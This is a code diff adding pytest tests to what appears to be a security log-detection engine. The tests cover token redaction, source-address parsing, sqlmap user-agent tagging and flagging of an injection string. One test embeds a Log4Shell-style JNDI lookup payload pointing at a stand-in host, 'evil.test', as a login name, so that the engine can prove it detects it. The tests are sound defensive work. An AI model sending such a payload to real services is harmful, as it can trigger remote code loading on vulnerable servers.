@@ -10,6 +10,7 @@ import pytest
 from aiscore_contract.event import Event
 from aiscore_contract.forms.weblog import WebRequest, is_unsigned, request_of_record, telling_headers
 from aiscore_contract.limits import TEXT_MAX_CHARS
+from aiscore_contract.redact import redact_event
 from aiscore_model.normalise import normalise
 from aiscore_rules.engine import RuleEngine
 from aiscore_rules.fields import read_facts
@@ -291,3 +292,31 @@ def test_who_asked_is_not_who_he_says_he_is():
     for own in ("remote_address", "remoteAddress", "cIP", "client_ip"):
         told = _read(json.dumps({"method": "GET", "uri": "/a", "status": 200, "http_x_forwarded_for": "10.0.0.1", own: "203.0.113.9"}))
         assert dict(told.entities)["src"] == "203.0.113.9"
+
+
+@pytest.mark.parametrize("attack", ["unsigned token", "unsigned cookie"])
+@pytest.mark.parametrize("form", FORMS)
+def test_a_token_that_nobody_signed_says_so_without_its_content(engine, form, attack):
+    line = _line(form, ATTACKS[attack][0])
+    plain = redact_event(line)
+    assert UNSIGNED not in plain and _read(plain).template == _read(line).template
+    assert engine.judge(plain, "").rule_ids == engine.judge(line, "").rule_ids
+
+
+def test_what_a_guard_keeps_of_a_request_without_a_page_is_told():
+    told = _read(json.dumps({"transaction": {"client_ip": "203.0.113.9", "request": {"method": "GET", "headers": {"user-agent": "sqlmap/1.7"}}, "messages": [{"message": "Invalid URI"}]}}))
+    assert told.kind == "web" and "agent attack tool sqlmap" in told.template and "warning invalid uri" in told.template
+
+
+@pytest.mark.parametrize("line", [
+    "{{core}} Login failed: '{}' (Remote IP: '203.0.113.9')", "[2031-03-01 10:11:12] production.WARNING: Login failed: '{}' (Remote IP: '203.0.113.9')",
+    "2031-03-01 10:11:12.123 INFO 1 --- [main] o.s.AuditListener : Authentication event AuthenticationFailureX: {}; details: W [RemoteIpAddress=203.0.113.9]"])
+def test_a_name_that_is_an_attack_stays_in_sight(line):
+    told = _read(line.format("${jndi:ldap://evil.test/a}"))
+    assert told.action == "login failed" and "jndi ldap" in told.template and "jndi:ldap" in " ".join(told.focus)
+    assert not _read(line.format("ann")).focus
+
+
+def test_what_a_message_says_of_an_address_is_not_where_it_came_from():
+    told = _read(json.dumps({"method": "POST", "url": "/chat", "remoteAddr": "203.0.113.9", "message": "Login failed: 'bob' (Remote IP: '10.0.0.1')"}))
+    assert dict(told.entities)["src"] == "203.0.113.9"
